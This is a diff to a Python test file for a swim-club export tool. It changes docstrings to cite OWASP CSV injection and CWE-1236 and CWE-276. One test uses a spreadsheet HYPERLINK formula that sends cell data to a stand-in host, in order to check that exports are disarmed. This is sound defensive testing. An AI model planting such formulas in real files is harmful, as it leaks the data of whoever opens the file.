@@ -101,7 +101,7 @@ def test_the_invented_club_comes_through_to_the_byte(tmp_path: Path) -> None:
 def test_a_formula_is_disarmed_by_one_apostrophe_and_comes_back(
     store: Store, tmp_path: Path, text: str
 ) -> None:
-    """S01, S02, S03; a carriage return is refused on entry (P1), so that form can't arise."""
+    """A spreadsheet would run it (OWASP, CSV injection; CWE-1236); a carriage return is refused before."""
     add(store, [Swimmer(swimmer=ANA, note=text)])
     export_club(store, tmp_path / "out", settings=DEFAULT)
     assert cell(tmp_path / "out", "swimmers.csv", "note") == "'" + text
@@ -113,7 +113,7 @@ def test_a_formula_is_disarmed_by_one_apostrophe_and_comes_back(
 
 
 def test_an_apostrophe_of_somebody_elses_file_stays(store: Store, tmp_path: Path) -> None:
-    """S03: only what we wrote ourselves is taken off."""
+    """Only what we wrote ourselves is taken off."""
     file = tmp_path / "swimmers.csv"
     file.write_text("swimmer,note\nO'Dea,'=1\n")
     import_club(store, file, as_of=AS_OF, settings=DEFAULT, who="c", at=NOW)
@@ -122,7 +122,6 @@ def test_an_apostrophe_of_somebody_elses_file_stays(store: Store, tmp_path: Path
 
 
 def test_a_negative_number_stays_a_number(store: Store, tmp_path: Path) -> None:
-    """S04."""
     item = ReviewItem(date=AS_OF, swimmer=ANA, reviewer="Bo", kind="measure", item="hand-depth", value=-0.5)
     add(store, [Swimmer(swimmer=ANA), item])
     export_club(store, tmp_path / "out", settings=DEFAULT)
@@ -143,7 +142,6 @@ def test_health_is_left_out_or_a_break(store: Store, tmp_path: Path) -> None:
 
 
 def test_existing_files_are_replaced_only_if_told(store: Store, tmp_path: Path) -> None:
-    """S18."""
     add(store, [Swimmer(swimmer=ANA)])
     out = tmp_path / "out"
     out.mkdir()
@@ -156,7 +154,6 @@ def test_existing_files_are_replaced_only_if_told(store: Store, tmp_path: Path) 
 
 
 def test_a_folder_that_cannot_be_made_is_said_and_nothing_is_left(store: Store, tmp_path: Path) -> None:
-    """S18."""
     (tmp_path / "file").write_text("x")
     with pytest.raises(SlackwaterError, match="cannot write"):
         export_club(store, tmp_path / "file" / "out", settings=DEFAULT)
@@ -180,7 +177,7 @@ def test_an_export_that_breaks_off_leaves_no_part(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("umask", [0o000, 0o022, 0o077])
 def test_exports_are_their_owners_alone(store: Store, tmp_path: Path, umask: int) -> None:
-    """S46."""
+    """CWE-276."""
     add(store, [Swimmer(swimmer=ANA), Swim(date=AS_OF, swimmer=ANA, distance_m=400, time_s=400)])
     before = os.umask(umask)
     try:
@@ -210,7 +207,6 @@ def test_a_plain_reader_reads_it_all(store: Store, tmp_path: Path) -> None:
 @given(clubs())
 @settings(max_examples=15, deadline=None, suppress_health_check=list(HealthCheck), phases=NO_SHRINK)
 def test_a_workbook_brings_back_the_same_club(club: list[Record]) -> None:
-    """S01, S40."""
     with tempfile.TemporaryDirectory() as folder:
         place = Path(folder)
         store, other = Store.open(place / "first.db"), Store.open(place / "other.db")
@@ -228,7 +224,7 @@ def test_a_workbook_brings_back_the_same_club(club: list[Record]) -> None:
 
 
 def test_a_workbook_holds_no_formula(store: Store, tmp_path: Path) -> None:
-    """S01."""
+    """OWASP, CSV injection; CWE-1236."""
     import openpyxl
 
     add(store, [Swimmer(swimmer='=HYPERLINK("http://x.test/?"&A2,"Ana")', note="#N/A")])
@@ -240,7 +236,6 @@ def test_a_workbook_holds_no_formula(store: Store, tmp_path: Path) -> None:
 
 
 def test_what_a_workbook_cannot_hold_is_said(store: Store, tmp_path: Path) -> None:
-    """S40."""
     add(store, [Swimmer(swimmer=ANA, note="_x000B_")])
     with pytest.raises(SlackwaterError, match="export it as csv"):
         export_club(store, tmp_path / "x", settings=DEFAULT, formats=("xlsx",))
